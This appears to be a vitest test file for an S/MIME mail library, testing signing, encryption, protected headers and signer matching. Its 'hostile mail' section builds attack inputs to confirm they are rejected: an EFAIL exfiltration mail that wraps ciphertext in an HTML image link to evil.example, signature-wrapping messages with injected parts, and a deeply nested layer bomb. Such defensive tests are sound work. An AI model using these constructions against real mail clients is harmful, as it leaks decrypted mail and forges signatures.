import { describe, expect, it } from 'vitest';
import { softwareDecryptionKey, softwareSigningKey } from '#crypto';
import { pkcs7Mime, splitMail } from '#mail';
import * as fixtures from '../../../../test/support/cms-fixtures.js';
import { seededRandom } from '../../../../test/support/seeded-random.js';
import { type OpenedMail, openSmime, type SmimeOpening } from './open-smime.js';
import { protectBySmime, type SmimeProtection } from './smime-mail.js';

const RSA = { certificate: { der: fixtures.RSA_CERTIFICATE }, key: softwareDecryptionKey(fixtures.RSA_KEY) };
const P256 = { certificate: { der: fixtures.P256_CERTIFICATE }, key: softwareDecryptionKey(fixtures.P256_KEY) };
const OURS = { recipients: [RSA, P256] };
const signer = { certificate: RSA.certificate, key: softwareSigningKey(fixtures.RSA_KEY) };
const CLEAR = { sign: { signer, at: new Date('2026-03-01T12:00:00Z'), form: 'clear' } } as const;
const OPAQUE = { sign: { ...CLEAR.sign, form: 'opaque' } } as const;
const SEALED = { encrypt: { certificates: [RSA.certificate, P256.certificate] } };

const lines = (...text: string[]): Buffer => Buffer.from(text.map((line) => `${line}\r\n`).join(''));
const BODY = ['MIME-Version: 1.0', 'Content-Type: text/plain', '', 'Hello.'];
const MAIL = lines('From: Ada <ada@a.example>', 'To: b@b.example', 'Subject: the offer', ...BODY);
const all = (text: Buffer): string => text.toString('latin1');

/** Protects a mail in several steps, the innermost first. */
async function layered(mail: Buffer, ...steps: SmimeProtection[]): Promise<Buffer> {
  let out = mail;
  for (const step of steps) out = await protectBySmime(out, step);
  return out;
}

function summary({ layers, stoppedBy }: OpenedMail): string[] {
  const words = layers.map((layer) => {
    if (layer.kind === 'signed') return `signed ${layer.verdict}`;
    return layer.kind === 'encrypted' ? `encrypted ${layer.opened ? 'opened' : 'closed'}` : layer.kind;
  });
  return stoppedBy === undefined ? words : [...words, stoppedBy];
}

describe('a mail', () => {
  it.each<[string, SmimeProtection[], string[]]>([
    ['signed', [CLEAR], ['signed good']],
    ['signed opaque', [OPAQUE], ['signed good']],
    ['encrypted', [SEALED], ['encrypted opened']],
    ['signed and encrypted', [{ ...CLEAR, ...SEALED }], ['encrypted opened', 'signed good']],
    [
      'signed, encrypted, signed, encrypted',
      [CLEAR, SEALED, OPAQUE, SEALED],
      ['encrypted opened', 'signed good', 'encrypted opened', 'signed good'],
    ],
  ])('comes back as it was: %s', async (_, steps, layers) => {
    const opened = await openSmime(await layered(MAIL, ...steps), OURS);
    expect(summary(opened)).toEqual(layers);
    expect(all(opened.mail)).toBe(all(MAIL));
  });

  it('without S/MIME stays byte for byte', async () => {
    const mail = Buffer.from('Subject: x\n\nlines of Unix\n');
    expect(await openSmime(mail, OURS)).toEqual({ mail, layers: [], stoppedBy: undefined, protectedHeader: undefined, beside: [] });
  });

  it('that is encrypted shows nothing of its body', async () => {
    expect(all(await protectBySmime(MAIL, SEALED))).not.toContain('Hello');
  });

  it('above the limit is neither protected nor opened', async () => {
    await expect(protectBySmime(MAIL, { ...SEALED, maxBytes: MAIL.length - 1 })).rejects.toMatchObject({ code: 'too-large' });
    expect(summary(await openSmime(MAIL, { maxBytes: MAIL.length - 1 }))).toEqual(['too-large']);
  });

  it('keeps the signatures inside of its envelope when that is asked for', async () => {
    const protectedMail = await layered(MAIL, { ...CLEAR, ...SEALED });
    const opened = await openSmime(protectedMail, { ...OURS, keepSignatures: true });
    expect(all(opened.mail)).toContain('multipart/signed');
    expect(summary(await openSmime(opened.mail))).toEqual(['signed good']);
  });

  it('that nobody here can open says for whom it is', async () => {
    const opened = await openSmime(await protectBySmime(MAIL, { encrypt: { certificates: [P256.certificate] } }), { recipients: [RSA] });
    expect(summary(opened)).toEqual(['encrypted closed', 'cannot-decrypt']);
    expect(opened.layers).toMatchObject([{ envelope: { cipher: 'aes-256-gcm', recipients: [{ name: { issuer: 'CN=Ada P-256' } }] } }]);
  });
});

describe('a protected header', () => {
  const protectedFields = ['from', 'subject'] as const;

  it('hides the subject of an encrypted mail and gives it back', async () => {
    const encrypted = await protectBySmime(MAIL, { ...CLEAR, ...SEALED, protectedFields });
    expect(all(encrypted)).toContain('Subject: [...]');
    expect(all(encrypted)).not.toContain('the offer');
    const opened = await openSmime(encrypted, OURS);
    expect(all(opened.mail)).toBe(all(lines('From: Ada <ada@a.example>', 'To: b@b.example', 'Subject: the offer', ...BODY)));
    expect(opened.protectedHeader?.protection).toBe('cipher');
  });

  it('gives back a subject that was changed on the way, but not under a broken signature', async () => {
    const signed = await protectBySmime(MAIL, { ...CLEAR, protectedFields });
    const changed = Buffer.from(all(signed).replace('Subject: the offer', 'Subject: another'), 'latin1');
    expect(all((await openSmime(changed)).mail)).toContain('Subject: the offer');
    const broken = Buffer.from(all(changed).replace('Hello.', 'Hallo.'), 'latin1');
    expect(all((await openSmime(broken)).mail)).toContain('Subject: another');
  });
});

describe('who signed', () => {
  const isFrom = async (mail: Buffer): Promise<boolean[]> =>
    (await openSmime(mail)).layers.flatMap((layer) =>
      layer.kind === 'signed' ? layer.signatures.map((signature) => signature.isFrom) : [],
    );

  it.each([
    ['the signer', 'From: Ada <ada@a.example>', true],
    ['the signer, in other letters', 'From: ADA@A.example', true],
    ['somebody else', 'From: boss@a.example', false],
    ['somebody else with the name of the signer', 'From: "ada@a.example" <boss@a.example>', false],
    ['both', 'From: ada@a.example, boss@a.example', false],
    ['nobody', 'X-From: ada@a.example', false],
  ])('is compared with From: %s', async (_, from, expected) => {
    const [, ...rest] = all(MAIL).split('\r\n');
    expect(await isFrom(await protectBySmime(Buffer.from([from, ...rest].join('\r\n')), CLEAR))).toEqual([expected]);
  });

  it('is not believed when another From was protected', async () => {
    const signed = await protectBySmime(MAIL, { ...CLEAR, protectedFields: ['from'] });
    const resent = Buffer.from(all(signed).replace('From: Ada <ada@a.example>', 'From: eve@e.example'), 'latin1');
    expect(await isFrom(resent)).toEqual([false]);
  });
});

describe('hostile mail', () => {
  const read = async (mail: Buffer, opening: SmimeOpening = OURS): Promise<string[]> => summary(await openSmime(mail, opening));

  it('changed in its body is broken', async () => {
    const signed = all(await protectBySmime(MAIL, CLEAR)).replace('Hello.', 'Hallo.');
    expect(await read(Buffer.from(signed, 'latin1'))).toEqual(['signed broken']);
  });

  it('around an envelope is not decrypted (EFAIL, direct exfiltration)', async () => {
    const inner = all(splitMail(await protectBySmime(MAIL, SEALED)).entity);
    const around = lines(
      'Content-Type: multipart/mixed; boundary=o',
      '',
      '--o',
      'Content-Type: text/html',
      '',
      '<img src="http://evil.example/',
      '--o',
      inner,
      '--o',
      'Content-Type: text/html',
      '',
      '">',
      '--o--',
    );
    const opened = await openSmime(around, OURS);
    expect(opened).toMatchObject({ layers: [], mail: around });
  });

  it('in CBC is marked as unauthenticated (EFAIL, gadgets)', async () => {
    const encrypted = await protectBySmime(MAIL, { encrypt: { certificates: [P256.certificate], cipher: 'aes-256-cbc' } });
    expect((await openSmime(encrypted, OURS)).layers).toMatchObject([{ opened: true, authenticated: false }]);
  });

  it('around a signed mail is not signed (signature wrapping)', async () => {
    const inner = all(splitMail(await protectBySmime(MAIL, CLEAR)).entity);
    const around = lines('From: ada@a.example', 'Content-Type: multipart/mixed; boundary=o', '', '--o', '', 'Pay!', '--o', inner, '--o--');
    expect(await read(around)).toEqual([]);
  });

  it('with a part before, between or behind the signed ones is not signed', async () => {
    const signed = all(await protectBySmime(MAIL, CLEAR));
    const boundary = /boundary="([^"]+)"/.exec(signed)?.[1] ?? '';
    const evil = `--${boundary}\r\n\r\nPay!\r\n`;
    const places = [
      signed.indexOf(`--${boundary}`),
      signed.indexOf(`--${boundary}\r\nContent-Type: application`),
      signed.indexOf(`--${boundary}--`),
    ];
    for (const at of places) expect(await read(Buffer.from(signed.slice(0, at) + evil + signed.slice(at), 'latin1'))).toEqual([]);
  });

  it('of 1,000 layers is opened as far as the limit, quickly', async () => {
    const signature = [
      '--B',
      'Content-Type: application/pkcs7-signature',
      'Content-Transfer-Encoding: base64',
      '',
      fixtures.SIGNED_DETACHED.toString('base64'),
    ];
    const levels = Array.from({ length: 1_000 }, (_, level) => `b${level}b`);
    const opening = levels.flatMap((boundary) => [`Content-Type: multipart/signed; boundary=${boundary}`, '', `--${boundary}`]);
    const closing = levels
      .toReversed()
      .flatMap((boundary) => [...signature.map((line) => (line === '--B' ? `--${boundary}` : line)), `--${boundary}--`]);
    expect(await read(lines(...opening, 'Content-Type: text/plain', '', 'x', ...closing))).toEqual([
      ...Array.from({ length: 16 }, () => 'signed broken'),
      'too-many-layers',
    ]);
  });

  it.each<[string, SmimeProtection]>([
    ['signed', CLEAR],
    ['signed opaque', OPAQUE],
    ['encrypted', SEALED],
  ])('with one of 500 bits changed is never good with another content: %s', async (_, protection) => {
    const bytes = await protectBySmime(MAIL, protection);
    const random = seededRandom(11);
    for (let i = 0; i < 500; i++) {
      const copy = Buffer.from(bytes);
      copy[random.between(0, bytes.length - 1)]! ^= 1 << random.between(0, 7);
      const { layers, mail } = await openSmime(copy, OURS);
      const holds = layers.some((layer) =>
        layer.kind === 'signed' ? layer.verdict === 'good' : layer.kind === 'encrypted' && layer.opened,
      );
      if (holds) expect(all(splitMail(mail).entity)).toBe(all(splitMail(MAIL).entity));
    }
  });

  it.each([
    ['nothing', Buffer.alloc(0)],
    ['text', Buffer.from('hello')],
    ['certificates in a wrong place', fixtures.RSA_CERTIFICATE],
    ['a structure without an end', Buffer.from('3080', 'hex')],
  ])('with %s for a structure is damaged', async (_, cms) => {
    expect(await read(Buffer.concat([Buffer.from('From: a@a.example\r\n'), pkcs7Mime(cms, 'signed-data')]))).toEqual(['malformed']);
  });
});
